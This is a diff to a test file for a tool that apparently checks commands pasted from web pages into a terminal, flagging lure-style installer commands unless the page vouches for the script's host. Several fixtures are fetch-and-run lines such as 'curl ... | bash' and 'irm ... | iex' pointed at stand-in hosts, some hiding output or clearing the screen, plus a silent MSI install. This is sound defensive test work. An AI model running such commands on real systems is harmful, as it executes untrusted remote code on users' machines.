@@ -82,6 +82,11 @@ def test_forge_sections_and_other_sites_have_no_owner(url: str) -> None:
         ("https://widget-vendor.dev/docs", "https://widget-vendor.dev/install.ps1", False, False),
         ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/widgetctl/widgetctl/main/install.sh", False, True),
         ("https://github.com/acme-tools/widgetctl", "https://widgetctl.dev/install.sh", False, False),
+        # a company's page about a product whose own site serves the script
+        ("https://acme-soft.com/docs/widgetctl/install", "https://widgetctl.dev/install.sh", False, False),
+        ("https://www.acme-soft.com/products/widgetctl.html", "https://get.widgetctl.io", False, False),
+        # one name under two suffixes
+        ("https://docs.widgetctl.com/", "https://widgetctl.sh/install.sh", False, False),
     ],
 )  # fmt: skip
 def test_a_page_vouches_for_its_own_projects_script(
@@ -116,6 +121,15 @@ def test_a_page_vouches_for_its_own_projects_script(
         ("https://github.com/acme-tools/widgetctl/discussions/7", "https://objects.githubusercontent.com/x/1", False, True),
         # punycode and look-alike letters never vouch
         ("https://xn--vndor-3ve.dev/docs", "https://xn--vndor-3ve.dev/install.sh", False, False),
+        # a page naming a product vouches for that product's site, not for a longer name
+        ("https://acme-soft.com/docs/widgetctl/install", "https://widgetctl-mirror.top/i.sh", False, False),
+        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl.dev/install.sh", False, False),
+        # words that name no one, on either side
+        ("https://example.org/install/", "https://install.top/x.sh", False, False),
+        ("https://verify.example.top/captcha", "https://captcha.top/x.sh", False, False),
+        ("https://www.install.org/", "https://install.net/x.sh", False, False),
+        # a named path on a forge or a tenancy names no owner
+        ("https://blog.example.org/widgetctl/", "https://widgetctl.pages.dev/i.sh", True, False),
     ],
 )  # fmt: skip
 def test_nothing_else_vouches(page: str, url: str, never: bool, shared: bool) -> None:
@@ -271,3 +285,69 @@ def test_hostile_host_names_cost_nothing(engine: Engine) -> None:
     text = f"curl -fsSL {urls} | sh"
     verdict = engine.analyze(text, Context(source=f"https://{long_label}.test/", target=TERMINAL))
     assert verdict.level >= Level.SUSPICIOUS and verdict.complete
+
+
+STRANGER_PAGE = "https://www.example-bakery.com/menu/"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -fsSL https://cdn.pixel-relay.example/logo.png | bash",
+        "irm https://cdn.pixel-relay.example/wp-content/uploads/u.ps1 | iex",
+        "curl -fsSL https://cdn.pixel-relay.example/i.sh | bash >/dev/null 2>&1",
+        "curl -fsSL https://cdn.pixel-relay.example/i.sh | sh; clear",
+    ],
+)
+def test_a_lure_trait_from_a_strangers_page_into_a_terminal_is_blocked(
+    engine: Engine, text: str
+) -> None:
+    verdict = engine.analyze(text, Context(source=STRANGER_PAGE, target=TERMINAL))
+    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
+    # the same text from the script host's own page is a warning, not a block
+    own = engine.analyze(
+        text, Context(source="https://docs.pixel-relay.example/x", target=TERMINAL)
+    )
+    assert own.level >= Level.SUSPICIOUS
+
+
+def test_without_a_trait_a_strangers_page_warns_and_an_official_installer_stays_quiet(
+    engine: Engine,
+) -> None:
+    plain = "curl -fsSL https://cdn.pixel-relay.example/install.sh | bash"
+    verdict = engine.analyze(plain, Context(source=STRANGER_PAGE, target=TERMINAL))
+    assert verdict.level is Level.SUSPICIOUS, verdict.rule_ids
+    for page, text in [
+        ("https://www.rust-lang.org/tools/install", "curl -sSf https://sh.rustup.rs | sh -s -- -y"),
+        ("https://brew.sh/", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'),
+    ]:  # fmt: skip
+        verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
+        assert verdict.level is Level.INFO, (text, verdict.rule_ids)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://downloads.acme-soft.com/agent/Agent.msi",  # the page's own download host
+        "https://github.com/acme-soft/agent/releases/download/v1/Agent.msi",  # its own releases
+    ],
+)
+def test_an_installer_saved_to_temp_and_started_from_its_own_page_is_info(
+    engine: Engine, url: str
+) -> None:
+    text = f"iwr {url} -OutFile $env:TEMP\\Agent.msi; msiexec /i $env:TEMP\\Agent.msi /qn"
+    page = (
+        "https://www.acme-soft.com/docs/agent"
+        if "github" not in url
+        else ("https://github.com/acme-soft/agent/releases")
+    )
+    assert engine.analyze(text).level is Level.MALICIOUS  # without context: unchanged
+    verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
+    assert verdict.level is Level.INFO and "PG-INFO-SAME-PROJECT" in verdict.rule_ids
+    for lure_page, lure_text in [
+        (STRANGER_PAGE, text),
+        (page, text.replace("https://", "http://")),
+        (page, text.replace(url.split("/")[2], "198.51.100.7")),
+    ]:
+        verdict = engine.analyze(lure_text, Context(source=lure_page, target=TERMINAL))
+        assert verdict.level is Level.MALICIOUS, (lure_page, lure_text, verdict.rule_ids)
